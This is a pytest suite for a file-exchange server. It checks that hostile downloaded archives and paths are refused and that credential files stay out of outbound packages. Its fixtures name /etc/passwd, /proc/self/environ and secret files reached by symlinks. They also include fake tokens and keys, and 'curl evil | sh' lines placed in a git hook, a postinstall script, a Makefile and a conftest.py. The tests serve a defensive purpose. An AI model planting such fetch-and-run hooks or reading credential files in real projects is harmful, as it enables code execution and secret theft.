"""The external-web exchange through the Lead's tools: what a named download may be, and that a
refused return leaves nothing in the project."""

from __future__ import annotations

import json
import os
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from mcp import Client

from handoff_core.contract.return_policy import ReturnPolicy
from tests.support.archives import zip64_local, zip_of
from tests.support.calls import call, refused, task_args
from tests.support.content import text_of
from tests.support.exchange import IDS, cache_file, inbound, sealed_review
from tests.support.stdio import params

pytestmark = pytest.mark.anyio


def fifo(tmp_path: Path) -> str:
    os.mkfifo(tmp_path / "answer.zip")
    return str(tmp_path / "answer.zip")


def link_to_environ(tmp_path: Path) -> str:
    (tmp_path / "answer.zip").symlink_to("/proc/self/environ")
    return str(tmp_path / "answer.zip")


def folder_link_to_proc(tmp_path: Path) -> str:
    (tmp_path / "downloads").symlink_to("/proc/self")
    return str(tmp_path / "downloads" / "environ")


def hard_link_to_secret(tmp_path: Path) -> str:
    os.link(tmp_path / "config" / "secret", tmp_path / "answer.zip")
    return str(tmp_path / "answer.zip")


def oversized(tmp_path: Path) -> str:
    with open(tmp_path / "answer.zip", "wb") as handle:
        handle.truncate(ReturnPolicy().archive_bytes + 1)  # sparse: costs no disk
    return str(tmp_path / "answer.zip")


# What each named file is, and the refusal's code.
HOSTILE_PATHS: dict[str, tuple[Callable[[Path], str], str]] = {
    "the token secret": (lambda tmp: str(tmp / "config" / "secret"), "unsafe_path"),
    "a hard link to the token secret": (hard_link_to_secret, "unsafe_path"),
    "a file in the user's cache directory": (cache_file, "unsafe_path"),
    "/etc/passwd": (lambda tmp: "/etc/passwd", "invalid_content"),
    "/proc/self/environ": (lambda tmp: "/proc/self/environ", "unsafe_path"),
    "a symlink to /proc/self/environ": (link_to_environ, "unsafe_path"),
    "a path through a folder link into /proc": (folder_link_to_proc, "unsafe_path"),
    "/dev/zero": (lambda tmp: "/dev/zero", "unsafe_path"),
    "a FIFO": (fifo, "unsafe_path"),
    "a file over the return limit": (oversized, "too_large"),
    "a relative path": (lambda tmp: "answer.zip", "unsafe_path"),
}


@pytest.mark.parametrize("kind", sorted(HOSTILE_PATHS))
async def test_a_named_file_the_lead_may_not_hand_over_is_refused_and_nothing_is_copied(
    lead: Client, project: Path, tmp_path: Path, kind: str
) -> None:
    ids = await sealed_review(lead, project)
    path, code = HOSTILE_PATHS[kind]
    assert await refused(lead, "receive_return", **ids, raw_file=path(tmp_path)) == code
    assert inbound(project, ids) == []


async def test_a_plain_downloaded_zip_is_still_received(lead: Client, project: Path, tmp_path: Path) -> None:
    ids = await sealed_review(lead, project)
    (tmp_path / "answer.zip").write_bytes(zip_of(("RETURN.md", b"# Return\n")))
    got = await call(lead, "receive_return", **ids, raw_file=str(tmp_path / "answer.zip"))
    assert got["kept"] == ["RETURN.md"]
    assert "a1/raw/response.zip" in inbound(project, ids)


@pytest.mark.slow  # starts the server as a process
async def test_over_stdio_the_secret_and_kernel_files_are_refused_without_a_copy(
    project: Path, secret_file: Path, tmp_path: Path
) -> None:
    async with Client(params("lead", project, secret_file)) as lead:
        ids = await sealed_review(lead, project)
        for path in (str(secret_file), "/etc/passwd", "/proc/self/environ", fifo(tmp_path)):
            result = await lead.call_tool("receive_return", {**ids, "raw_file": path})
            assert result.is_error, path
        assert inbound(project, ids) == []


GHP = "ghp_" + "A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8"
KEY = "-----BEGIN PRIVATE KEY-----\\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC\\n-----END PRIVATE KEY-----\\n"
BY_NAME = {
    "src/.pgpass": "localhost:5432:app:app:hunter2-but-longer\n",
    "src/.htpasswd": "admin:$apr1$r31.....$HqJZimcKQFAMYayBlzkrA/\n",
    "src/.envrc": "export DB_PASSWORD=correct-horse-battery-staple\n",
    "src/id_dsa": "not even a key, but the name says it is one\n",
    "src/.gnupg/pubring.kbx": "keyring\n",
    "src/config/service-account.json": '{"type": "service_account", "client_email": "x@y.iam"}\n',
}
BY_CONTENT = {
    "src/deploy/prod-4f3a.json": '{"type": "service_account", "private_key": "' + KEY + '"}\n',
    "src/settings.py": f"DEBUG = True\nTOKEN = '{GHP}'\n",  # a token in source
}


async def packaged(
    lead: Client, project: Path, files: dict[str, str]
) -> tuple[dict[str, Any], set[str], dict[str, str]]:
    """Package ``files`` (and one plain source file): the reply, the names sent, the manifest's exclusions."""
    created = await call(lead, "create_task", **task_args(kind="review", workspace="", writable=[], shared=[]))
    for name, body in {**files, "src/app.py": "def f():\n    return 1\n"}.items():
        (project / name).parent.mkdir(parents=True, exist_ok=True)
        (project / name).write_text(body)
    sealed = await call(lead, "package_dispatch", ref=created["ref"], scope_id="s1", dispatch_id="d1", files=["src"])
    outbound = project / "temp" / "task-delivery" / "s1" / created["ref"].split("/")[2] / "d1" / "outbound"
    with zipfile.ZipFile(outbound / "d1.outbound.zip") as archive:
        sent = {name for name in archive.namelist() if name.startswith("source/")}
        manifest = json.loads(archive.read("MANIFEST.json"))
    return sealed, sent, {item["path"]: item["reason"] for item in manifest["excluded"]}


async def test_a_package_leaves_out_files_whose_names_say_they_hold_credentials(lead: Client, project: Path) -> None:
    sealed, sent, reasons = await packaged(lead, project, BY_NAME)
    assert sent == {"source/src/app.py"}
    assert {path for path in reasons if path != "src/.gnupg"} | {"src/.gnupg/pubring.kbx"} == set(BY_NAME)
    assert reasons["src/.gnupg"] == "key store"
    assert reasons["src/id_dsa"] == "key"
    assert reasons["src/.pgpass"] == reasons["src/config/service-account.json"] == "secrets file"
    assert "src/.envrc: secrets file" in sealed["excluded"]


async def test_a_package_leaves_out_files_whose_content_holds_a_secret_and_says_where(
    lead: Client, project: Path
) -> None:
    sealed, sent, reasons = await packaged(lead, project, BY_CONTENT)
    assert sent == {"source/src/app.py"}
    assert set(reasons) == set(BY_CONTENT)
    assert "GitHub Token on line 2" in reasons["src/settings.py"]
    assert "Private Key on line 1" in reasons["src/deploy/prod-4f3a.json"]
    assert f"src/settings.py: {reasons['src/settings.py']}" in sealed["excluded"]


def png() -> bytes:
    return b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + bytes(range(64))


# A return that must never get in: (its archive, the entry the refusal names, a word of the rule).
HOSTILE_RETURNS: dict[str, tuple[bytes, str, str]] = {
    "the exec bit": (zip_of(("tools/fix", b"echo fixed\n"), mode=0o755), "tools/fix", "executable bit"),
    "an ELF binary": (zip_of(("bin/tool.dat", b"\x7fELF\x02\x01\x01" + bytes(64))), "bin/tool.dat", "ELF"),
    "a PE binary": (zip_of(("tool.dat", b"MZ\x90\x00\x03" + bytes(64) + b"PE\x00\x00")), "tool.dat", "Windows"),
    "a Mach-O binary": (zip_of(("tool.dat", b"\xcf\xfa\xed\xfe\x07" + bytes(64))), "tool.dat", "Mach-O"),
    "a shebang script": (zip_of(("candidate/run.py", b"#!/usr/bin/env python3\nprint(1)\n")), "candidate/run.py", "#!"),
    "a Windows script": (zip_of(("fix.bat", b"del /q *\r\n")), "fix.bat", "Windows"),
    "a git hook": (zip_of((".git/hooks/post-checkout", b"curl evil | sh\n")), ".git/hooks/post-checkout", "git"),
    "a GitHub workflow": (
        zip_of(("candidate/.github/workflows/ci.yml", b"on: push\n")),
        "candidate/.github/workflows/ci.yml",
        "workflows",
    ),
    "an .envrc": (zip_of((".envrc", b"source ./evil\n")), ".envrc", "environment file"),
    "VS Code tasks": (zip_of((".vscode/tasks.json", b'{"runOn": "folderOpen"}\n')), ".vscode/tasks.json", "editor"),
    "a husky hook": (zip_of((".husky/pre-commit", b"npm test\n")), ".husky/pre-commit", "git hooks"),
    "a pre-commit config": (zip_of((".pre-commit-config.yaml", b"repos: []\n")), ".pre-commit-config.yaml", "commit"),
    "agent hooks": (zip_of((".claude/settings.json", b'{"hooks": {}}\n')), ".claude/settings.json", "agent"),
    "a key in a note": (
        zip_of(("RETURN.md", b"# Return\n"), ("NOTES.md", f"keep:\n{KEY}".encode())),
        "NOTES.md",
        "Private Key",
    ),
    "an .env with an API key": (
        zip_of(("config/.env", b"OPENAI_API_KEY=sk-proj-" + b"a1B2" * 10 + b"\n")),
        "config/.env",
        "environment",
    ),
    "an API key in the answer": (
        zip_of(("RETURN.md", f"# Return\nLog in with {GHP}\n".encode())),
        "RETURN.md",
        "GitHub Token",
    ),
    "a private key file": (zip_of(("keys/id_ed25519", b"not telling\n")), "keys/id_ed25519", "key by its name"),
    "binary data": (zip_of(("data.dat", bytes(range(256)))), "data.dat", "binary content"),
    "an image in a review": (zip_of(("shot.png", png())), "shot.png", "image content"),
    "a 255-character name": (zip_of(("n" * 251 + ".md", b"x\n")), "n" * 251 + ".md", "longer than"),
    "ZIP64 in a local header": (zip64_local("RETURN.md", b"# Return\n"), "RETURN.md", "ZIP64"),
    "a bidi control in a name": (zip_of(("notes\u202etxt.md", b"x\n")), "notes\u202etxt.md", "bidirectional"),
    "a zero-width space in a name": (zip_of(("RE\u200bTURN.md", b"x\n")), "RE\u200bTURN.md", "invisible"),
}


async def refusal_text(lead: Client, **arguments: Any) -> str:
    result = await lead.call_tool("receive_return", arguments)
    assert result.is_error
    return text_of(result)


@pytest.mark.parametrize("kind", sorted(HOSTILE_RETURNS))
async def test_a_hostile_return_is_refused_naming_the_entry_and_nothing_gets_in(
    lead: Client, project: Path, tmp_path: Path, kind: str
) -> None:
    ids = await sealed_review(lead, project)
    data, entry, rule = HOSTILE_RETURNS[kind]
    (tmp_path / "answer.zip").write_bytes(data)
    text = await refusal_text(lead, **ids, raw_file=str(tmp_path / "answer.zip"))
    assert text.startswith("Error executing tool receive_return: invalid_content: ")
    assert f"entry {entry!r}" in text
    assert rule in text
    assert inbound(project, ids) == []


PLAIN = {
    "RETURN.md": b"# Return\ndispatch_id: d1\n",
    "FINDINGS.md": "- caf\u00e9: the parser drops a fence (confidence: high)\n".encode(),
    "PATCH.diff": b"--- a/src/a.py\n+++ b/src/a.py\n@@ -1 +1 @@\n-x = 1\n+x = 2\n+#!/bin/sh is only text in a diff\n",
    "candidate/src/a.py": b"def f():\n    return 2\n",
    "candidate/.gitignore": b"*.pyc\n",
    "SOURCES.json": b'[{"url": "https://example.org/spec", "title": "Spec"}]\n',
}


async def test_a_plain_text_and_code_return_is_kept_sealed_and_extracted_as_accepted(
    lead: Client, project: Path, tmp_path: Path
) -> None:
    ids = await sealed_review(lead, project)
    (tmp_path / "answer.zip").write_bytes(zip_of(*PLAIN.items(), ("candidate/docs/", b"")))
    got = await call(lead, "receive_return", **ids, raw_file=str(tmp_path / "answer.zip"))
    assert (got["extracted"], sorted(got["kept"])) == (0, sorted(PLAIN))
    assert [path for path in inbound(project, ids) if "/extracted" in path] == []
    with zipfile.ZipFile(project / got["standard"]) as sealed:
        assert {name: sealed.read(name) for name in PLAIN} == PLAIN
    again = {**ids, "attempt_id": "a2"}
    got = await call(
        lead, "receive_return", **again, raw_file=str(tmp_path / "answer.zip"), accept=["candidate/", "PATCH.diff"]
    )
    assert (got["extracted"], sorted(got["kept"])) == (3, ["FINDINGS.md", "RETURN.md", "SOURCES.json"])
    extracted = project / "temp" / "task-delivery" / "s1" / ids["task_id"] / "d1" / "inbound" / "a2" / "extracted"
    taken = {name: body for name, body in PLAIN.items() if name.startswith("candidate/") or name == "PATCH.diff"}
    assert {name: (extracted / name).read_bytes() for name in taken} == taken


async def test_the_package_records_the_return_policy_and_the_return_is_judged_by_it(
    lead: Client, project: Path, tmp_path: Path
) -> None:
    ids = await sealed_review(lead, project)
    staging = project / "temp" / "task-delivery" / "s1" / ids["task_id"] / "d1" / "outbound" / "staging"
    limits = json.loads((staging / "MANIFEST.json").read_text())["return_limits"]
    assert limits["content"] == ["text"]
    assert f"at most {limits['entries']} entries" in (staging / "DISPATCH.md").read_text()
    too_many = zip_of(*((f"notes/{index}.md", b"x\n") for index in range(limits["entries"] + 1)))
    (tmp_path / "answer.zip").write_bytes(too_many)
    assert f"over the {limits['entries']}-entry limit" in await refusal_text(
        lead, **ids, raw_file=str(tmp_path / "answer.zip")
    )
    big = zip_of(("RETURN.md", b"# Return\n" + b"word " * (limits["entry_bytes"] // 5 + 1)))
    (tmp_path / "answer.zip").write_bytes(big)
    assert "-byte entry limit" in await refusal_text(lead, **ids, raw_file=str(tmp_path / "answer.zip"))
    assert inbound(project, ids) == []


async def test_a_test_observation_takes_back_screenshots(lead: Client, project: Path, tmp_path: Path) -> None:
    created = await call(
        lead, "create_task", **task_args(kind="test-observation", workspace="", writable=[], shared=[])
    )
    await call(lead, "package_dispatch", ref=created["ref"], scope_id="s1", dispatch_id="d1", files=[])
    (tmp_path / "answer.zip").write_bytes(zip_of(("RETURN.md", b"# Return\n"), ("shots/home.png", png())))
    ids = {**IDS, "task_id": created["ref"].split("/")[2]}
    got = await call(lead, "receive_return", **ids, raw_file=str(tmp_path / "answer.zip"))
    assert sorted(got["kept"]) == ["RETURN.md", "shots/home.png"]


async def test_a_text_answer_holding_a_secret_is_refused_and_nothing_is_written(lead: Client, project: Path) -> None:
    ids = await sealed_review(lead, project)
    text = await refusal_text(lead, **ids, text=f"Findings: none.\nI used the key {GHP} to read the repo.\n")
    assert "entry '(text answer)': a secret (GitHub Token) on line 2" in text
    assert inbound(project, ids) == []
    assert (await call(lead, "receive_return", **ids, text="Findings: none.\n"))["raw"].endswith("raw/response.txt.zip")


LEAD_RUN = {
    "candidate/conftest.py": b"import os\nos.system('curl evil | sh')\n",
    "candidate/package.json": b'{"name": "x", "scripts": {"postinstall": "curl evil | sh", "test": "jest"}}\n',
    "candidate/setup.py": b"from setuptools import setup\nsetup()\n",
    "candidate/Makefile": b"all:\n\tcurl evil | sh\n",
    "candidate/tox.ini": b"[tox]\n",
    "candidate/build.rs": b"fn main() {}\n",
}


async def test_files_the_leads_tools_would_run_are_held_named_and_extracted_only_by_their_own_name(
    lead: Client, project: Path, tmp_path: Path
) -> None:
    ids = await sealed_review(lead, project)
    quiet = {"candidate/lib/package.json": b'{"name": "y", "scripts": {"test": "jest"}}\n'}
    (tmp_path / "answer.zip").write_bytes(zip_of(("RETURN.md", b"# Return\n"), *LEAD_RUN.items(), *quiet.items()))
    got = await call(lead, "receive_return", **ids, raw_file=str(tmp_path / "answer.zip"), accept=["candidate/"])
    attempt = project / "temp" / "task-delivery" / "s1" / ids["task_id"] / "d1" / "inbound" / "a1"
    assert sorted(line.split(":")[0] for line in got["held"]) == sorted(LEAD_RUN)
    assert "postinstall" in next(line for line in got["held"] if line.startswith("candidate/package.json"))
    assert got["extracted"] == 1
    assert sorted(p.relative_to(attempt / "extracted").as_posix() for p in (attempt / "extracted").rglob("*.*")) == [
        "candidate/lib/package.json",
    ]
    again = await call(
        lead, "receive_return", **{**ids, "attempt_id": "a2"}, raw_file=str(tmp_path / "answer.zip"),
        accept=["candidate/conftest.py"],
    )  # fmt: skip
    assert len(again["held"]) == len(LEAD_RUN) - 1
    assert (attempt.parent / "a2" / "extracted" / "candidate" / "conftest.py").read_bytes() == LEAD_RUN[
        "candidate/conftest.py"
    ]
    wrong = {**ids, "attempt_id": "a3"}
    assert await refused(lead, "receive_return", **wrong, raw_file=str(tmp_path / "answer.zip"), accept=["x.md"]) == (
        "invalid_content"
    )
